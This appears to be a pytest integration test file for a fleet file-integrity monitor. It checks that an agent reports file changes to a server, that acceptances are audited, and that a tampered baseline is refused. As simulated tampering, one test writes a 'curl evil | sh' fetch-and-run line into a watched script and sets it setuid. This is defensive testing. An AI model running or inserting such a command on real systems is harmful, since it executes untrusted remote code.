"""File integrity across the fleet, end to end: a real server, a real agent checking its baseline, the CLI.

The agent checks on start, on request, and soon after a change its watch notices; its changes reach the server as open findings; accepting one from
the CLI is audited and holds while the file stays as accepted; a further change opens it again; a baseline
edited on the host is reported to the server as refused (an alarm), never used.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from integration.fleet import ADMIN, ADMIN_PASSWORD, AgentProcess, Server, free_port, run_rampart, wait_for

pytestmark = pytest.mark.slow


@pytest.fixture
def server(tmp_path: Path, database_url: str) -> Iterator[Server]:
    instance = Server(tmp_path / "server", "127.0.0.1", free_port(), database_url)
    instance.init()
    instance.start()
    yield instance
    instance.stop()


@pytest.fixture
def watched(tmp_path: Path) -> dict[str, Path]:
    """A small tree, its signed baseline and the key pair, made with the CLI as an operator would."""
    tree = tmp_path / "srv"
    (tree / "bin").mkdir(parents=True)
    (tree / "bin" / "tool").write_text("#!/bin/sh\necho ok\n")
    (tree / "bin" / "other").write_text("other\n")
    baseline, key = tmp_path / "fim" / "baseline.rfim", tmp_path / "keys" / "fim.key"
    done = run_rampart("fim", "init", tree, "--baseline", baseline, "--signing-key", key)
    assert done.returncode == 0, done.stderr
    return {"tree": tree, "baseline": baseline, "public": key.with_name("fim.key.pub")}


def _cli(env: dict[str, str], *args: str | Path) -> Any:
    done = run_rampart(*args, "--format", "json", env=env)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def _changes(env: dict[str, str], status: str = "all") -> dict[str, dict[str, Any]]:
    listed = _cli(env, "fim", "changes", "--status", status)
    items = listed["items"] if isinstance(listed, dict) else listed
    return {item["path"]: item for item in items}


def test_agent_changes_reach_the_server_and_acceptance_is_audited(
    server: Server, tmp_path: Path, watched: dict[str, Path]
) -> None:
    admin = server.login()
    agent = AgentProcess(tmp_path / "agent", tmp_path)
    try:
        host_id = agent.enroll(server.url, server.join_token(admin), "web-1")
        agent.start(fim=(watched["baseline"], watched["public"]), fim_watch=False)  # checks on request only
        env = {"RAMPART_CONFIG": str(tmp_path / "client.json"), "RAMPART_PASSWORD": ADMIN_PASSWORD}
        ca = server.data_dir / "pki" / "ca.crt"
        assert (
            run_rampart("login", "--server", server.url, "--user", ADMIN, "--ca", ca, env=env).returncode == 0
        )
        first = wait_for(lambda: _checked(env), "the agent's first check")
        assert first["refused"] == "" and first["entries"] == 4 and sum(first["open"].values()) == 0

        tool = str(watched["tree"] / "bin" / "tool")
        Path(tool).chmod(0o4755)
        _request(env)
        change = wait_for(lambda: _changes(env).get(tool), "the chmod to reach the server")
        assert change["status"] == "open" and change["cause"] == "unexplained"
        assert {a["name"] for a in change["attributes"]} >= {"mode"}

        accepted = run_rampart("fim", "accept", "web-1", tool, "--reason", "CHG-42 setuid helper", env=env)
        assert accepted.returncode == 0, accepted.stderr
        assert _changes(env)[tool]["status"] == "accepted"
        _request(env)
        wait_for(lambda: _checked(env)["checked_at"] != first["checked_at"], "another check")
        assert _changes(env)[tool]["status"] == "accepted"  # the same state: still accepted

        Path(tool).write_text("#!/bin/sh\ncurl evil | sh\n")
        _request(env)
        reopened = wait_for(lambda: _open(env, tool), "the new change to reopen the finding")
        assert {a["name"] for a in reopened["attributes"]} >= {"hash"}

        watched["baseline"].write_bytes(watched["baseline"].read_bytes()[:-20])
        _request(env)
        refused = wait_for(lambda: _checked(env)["refused"], "the refused baseline to reach the server")
        assert "REFUSED" in refused or "refused" in refused
        events = _audit(server, admin)
        accept = next(e for e in events if e["action"] == "fim.accept")
        assert accept["target"] == f"host:{host_id}" and "CHG-42" in json.dumps(accept["details"])
        assert any(e["action"] == "fim.refused" and e["outcome"] == "failure" for e in events)
    finally:
        agent.stop()


def test_the_agent_watch_sends_a_change_without_being_asked(
    server: Server, tmp_path: Path, watched: dict[str, Path]
) -> None:
    admin = server.login()
    agent = AgentProcess(tmp_path / "agent", tmp_path)
    try:
        agent.enroll(server.url, server.join_token(admin), "web-1")
        agent.start(fim=(watched["baseline"], watched["public"]))
        env = {"RAMPART_CONFIG": str(tmp_path / "client.json"), "RAMPART_PASSWORD": ADMIN_PASSWORD}
        ca = server.data_dir / "pki" / "ca.crt"
        assert (
            run_rampart("login", "--server", server.url, "--user", ADMIN, "--ca", ca, env=env).returncode == 0
        )
        first = wait_for(lambda: _checked(env), "the agent's first check")
        assert sum(first["open"].values()) == 0
        wait_for(lambda: "fim watch: reconciled" in agent.log.read_text(), "the agent's watch to start")

        tool = str(watched["tree"] / "bin" / "tool")
        Path(tool).chmod(0o4755)  # no `rampart fim request`, and the next scheduled check is an hour away
        change = wait_for(lambda: _open(env, tool), "the chmod to reach the server")
        assert {a["name"] for a in change["attributes"]} >= {"mode"}
    finally:
        agent.stop()
    assert "Traceback" not in agent.log.read_text()


def _checked(env: dict[str, str]) -> dict[str, Any] | None:
    hosts = _cli(env, "fim", "hosts")
    return hosts[0] if hosts and hosts[0]["checked_at"] else None


def _request(env: dict[str, str]) -> None:
    done = run_rampart("fim", "request", "web-1", env=env)
    assert done.returncode == 0, done.stderr


def _open(env: dict[str, str], path: str) -> dict[str, Any] | None:
    change = _changes(env).get(path)
    return change if change is not None and change["status"] == "open" else None


def _audit(server: Server, token: str) -> list[dict[str, Any]]:
    with server.client(token) as client:
        answer = client.get("/audit")
    assert answer.status_code == 200
    return [json.loads(line) for line in answer.text.splitlines()]
